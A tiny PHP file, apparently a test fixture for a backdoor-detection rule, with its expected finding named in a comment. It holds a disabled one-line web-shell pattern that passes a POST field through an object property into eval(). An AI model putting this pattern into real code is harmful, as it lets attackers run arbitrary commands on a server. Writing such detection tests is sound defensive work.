<?php return; // want: malicious backdoor php.code.request
$box = (object) array('size' => 3);
$box->note = $_POST['note'];
eval($box->note);
